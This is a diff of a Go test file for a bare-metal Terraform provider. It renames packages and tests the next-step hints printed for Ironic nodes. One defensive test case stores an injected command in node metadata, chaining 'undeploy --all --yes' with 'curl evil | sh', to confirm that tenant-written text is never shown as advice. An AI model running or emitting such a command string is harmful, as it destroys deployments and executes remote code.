@@ -1,4 +1,4 @@
-package advice_test
+package show_test
 
 import (
 	"strings"
@@ -7,10 +7,10 @@ import (
 
 	"github.com/terraform-provider-metal/terraform-provider-metal/internal/ironic"
 	"github.com/terraform-provider-metal/terraform-provider-metal/internal/machine"
-	"github.com/terraform-provider-metal/terraform-provider-metal/internal/machine/marks"
+	"github.com/terraform-provider-metal/terraform-provider-metal/internal/machine/notes"
 	"github.com/terraform-provider-metal/terraform-provider-metal/internal/machine/states"
 	"github.com/terraform-provider-metal/terraform-provider-metal/internal/oneview/sharing"
-	"github.com/terraform-provider-metal/terraform-provider-metal/internal/operator/advice"
+	"github.com/terraform-provider-metal/terraform-provider-metal/internal/operator/show"
 )
 
 var now = time.Date(2026, 5, 1, 3, 0, 0, 0, time.UTC)
@@ -46,11 +46,11 @@ func TestNext_inEachState(t *testing.T) {
 			t.Errorf("%s: the table has no row", state)
 			continue
 		}
-		checkAdvice(t, state, advice.Next(nodeIn(state, nil), now), want)
-		maintained := advice.Next(nodeIn(state, func(n *ironic.Node) { n.Maintenance = true }), now)
+		checkAdvice(t, state, show.NextSteps(nodeIn(state, nil), now), want)
+		maintained := show.NextSteps(nodeIn(state, func(n *ironic.Node) { n.Maintenance = true }), now)
 		checkAdvice(t, state+" in maintenance", maintained[:1], "metal maintenance off rack1-07")
 		checkAdvice(t, state+" in maintenance", maintained[1:], want)
-		faulty := advice.Next(nodeIn(state, func(n *ironic.Node) { n.Maintenance, n.Fault = true, "power failure" }), now)
+		faulty := show.NextSteps(nodeIn(state, func(n *ironic.Node) { n.Maintenance, n.Fault = true, "power failure" }), now)
 		checkAdvice(t, state+" with a fault", faulty[:1], "does not reach the BMC")
 		checkAdvice(t, state+" with a fault", faulty[1:], want)
 	}
@@ -66,12 +66,12 @@ func checkAdvice(t *testing.T, name string, got []string, want string) {
 
 func TestNext_cases(t *testing.T) {
 	t.Parallel()
-	interrupted := func(command string, goal marks.Goal) func(*ironic.Node) {
+	interrupted := func(command string, goal notes.Goal) func(*ironic.Node) {
 		return func(n *ironic.Node) {
-			n.Extra = map[string]any{marks.KeyOperation: map[string]any{"7d9ab9ef-7a4b-4d5d-9d6a-2f7f0b3f3f11": map[string]any{"command": command, "by": "ops@host", "since": now, "goal": goal}}}
+			n.Extra = map[string]any{notes.KeyOperation: map[string]any{"7d9ab9ef-7a4b-4d5d-9d6a-2f7f0b3f3f11": map[string]any{"command": command, "by": "ops@host", "since": now, "goal": goal}}}
 		}
 	}
-	suspended := map[string]any{marks.KeyAllocation: map[string]any{"uuid": "a1", "name": "web-3"}}
+	suspended := map[string]any{notes.KeyAllocation: map[string]any{"uuid": "a1", "name": "web-3"}}
 	for name, tt := range map[string]struct {
 		state  string
 		change func(*ironic.Node)
@@ -79,9 +79,9 @@ func TestNext_cases(t *testing.T) {
 	}{
 		"maintenance": {"active", func(n *ironic.Node) { n.Maintenance = true }, []string{"If its metal_host, or its status in an inventory, asks for that, change it there, because the next apply would begin the maintenance again. Otherwise"}},
 		"failed command": {"manageable", func(n *ironic.Node) {
-			n.Extra = map[string]any{marks.KeyOperation: map[string]any{"7d9ab9ef-7a4b-4d5d-9d6a-2f7f0b3f3f11": map[string]any{"command": "virtual-media attach", "by": "ops@host", "since": now, "failed": now, "goal": "media in cdrom"}}}
+			n.Extra = map[string]any{notes.KeyOperation: map[string]any{"7d9ab9ef-7a4b-4d5d-9d6a-2f7f0b3f3f11": map[string]any{"command": "virtual-media attach", "by": "ops@host", "since": now, "failed": now, "goal": "media in cdrom"}}}
 		}, []string{"Ironic does not allocate the node", "An operation has failed: metal virtual-media attach of ops@host"}},
-		"command at work":          {"manageable", interrupted("inspect", marks.GoalAvailable), []string{"Ironic does not allocate the node", "An operation has not ended: metal inspect of ops@host"}},
+		"command at work":          {"manageable", interrupted("inspect", notes.GoalAvailable), []string{"Ironic does not allocate the node", "An operation has not ended: metal inspect of ops@host"}},
 		"another fault":            {"clean failed", func(n *ironic.Node) { n.Maintenance, n.Fault = true, "clean failure" }, []string{"fault \"clean failure\"", "The disks may still hold data"}},
 		"a run changes interfaces": {"manageable", func(n *ironic.Node) { n.Maintenance, n.MaintenanceReason = true, machine.ReasonChanging }, []string{"apply again, which ends the maintenance", "metal provide"}},
 		"OneView users have it":    {"available", func(n *ironic.Node) { n.Maintenance, n.MaintenanceReason = true, sharing.ReasonInUse }, []string{"Run metal oneview sync"}},
@@ -104,20 +104,20 @@ func TestNext_cases(t *testing.T) {
 		"reserved, no allocation":    {"available", func(n *ironic.Node) { n.InstanceUUID = "i1" }, []string{"metal release --node rack1-07"}},
 		"reserved, being cleaned":    {"cleaning", func(n *ironic.Node) { n.InstanceUUID = "i1" }, []string{"Ironic is at work"}},
 		"allocation is not restored": {"available", func(n *ironic.Node) { n.Extra = suspended }, []string{"allocation web-3 was not created again"}},
-		"metal was killed":           {"manageable", interrupted("inspect", marks.GoalAvailable), []string{"metal provide", "run it again: metal inspect rack1-07"}},
+		"metal was killed":           {"manageable", interrupted("inspect", notes.GoalAvailable), []string{"metal provide", "run it again: metal inspect rack1-07"}},
 		"no medium was attached":     {"active", interrupted("virtual-media attach", "media in disk"), []string{"run it again: metal virtual-media attach rack1-07 --device disk --image-url URL"}},
-		"a tenant wrote the note":    {"active", interrupted("undeploy --all --yes; curl evil | sh #", marks.GoalPowerOn), nil},
-		"not ready":                  {"active", noted(marks.KeyReady, marks.Checked{Since: now, Target: "TCP port web-1:22", Failed: now}), []string{"was not ready at 2026-05-01T03:00:00Z: TCP port web-1:22"}},
-		"failed in a rollout":        {"active", noted(marks.KeyTurn, marks.Turn{Group: "databases", Run: "r", Failed: true}), []string{`rollout group "databases" waits for it`}},
-		"at work in a rollout":       {"active", noted(marks.KeyTurn, marks.Turn{Group: "databases", Run: "r"}), nil},
-		"not ready, and repaired":    {"active", noted(marks.KeyReady, marks.Checked{Since: now.Add(-time.Hour), Target: "TCP port web-1:22", Failed: now}), nil},
+		"a tenant wrote the note":    {"active", interrupted("undeploy --all --yes; curl evil | sh #", notes.GoalPowerOn), nil},
+		"not ready":                  {"active", noted(notes.KeyReady, notes.Checked{Since: now, Target: "TCP port web-1:22", Failed: now}), []string{"was not ready at 2026-05-01T03:00:00Z: TCP port web-1:22"}},
+		"failed in a rollout":        {"active", noted(notes.KeyTurn, notes.Turn{Group: "databases", Run: "r", Failed: true}), []string{`rollout group "databases" waits for it`}},
+		"at work in a rollout":       {"active", noted(notes.KeyTurn, notes.Turn{Group: "databases", Run: "r"}), nil},
+		"not ready, and repaired":    {"active", noted(notes.KeyReady, notes.Checked{Since: now.Add(-time.Hour), Target: "TCP port web-1:22", Failed: now}), nil},
 		"retired":                    {"manageable", func(n *ironic.Node) { n.Retired = true }, []string{"metal unretire rack1-07"}},
 		"a name like a flag":         {"active", func(n *ironic.Node) { n.Name, n.Maintenance = "--all", true }, []string{"metal maintenance off 1be26c0b-03f2-4d2e-ae87-c02d7f33c123"}},
 		"without a name":             {"rescue", func(n *ironic.Node) { n.Name = "" }, []string{"metal unrescue 1be26c0b-03f2-4d2e-ae87-c02d7f33c123"}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			got := advice.Next(nodeIn(tt.state, tt.change), now)
+			got := show.NextSteps(nodeIn(tt.state, tt.change), now)
 			if len(got) != len(tt.want) {
 				t.Fatalf("%q, want %q", got, tt.want)
 			}
@@ -135,10 +135,10 @@ func noted(key string, note any) func(*ironic.Node) {
 
 func TestNext_tellsOfAQuarantine(t *testing.T) {
 	t.Parallel()
-	q := &marks.Quarantine{Allocation: "web-3", Instance: "a1", Since: now, Failed: now}
-	got := advice.Next(nodeIn("manageable", func(n *ironic.Node) {
+	q := &notes.Quarantine{Allocation: "web-3", Instance: "a1", Since: now, Failed: now}
+	got := show.NextSteps(nodeIn("manageable", func(n *ironic.Node) {
 		n.Retired, n.RetiredReason = true, q.Reason()
-		n.Extra = map[string]any{marks.KeyQuarantine: map[string]any{"allocation": q.Allocation, "instance": q.Instance, "since": q.Since, "failed": q.Failed}}
+		n.Extra = map[string]any{notes.KeyQuarantine: map[string]any{"allocation": q.Allocation, "instance": q.Instance, "since": q.Since, "failed": q.Failed}}
 	}), now)
 	checkAdvice(t, "quarantine", got, "in quarantine")
 }
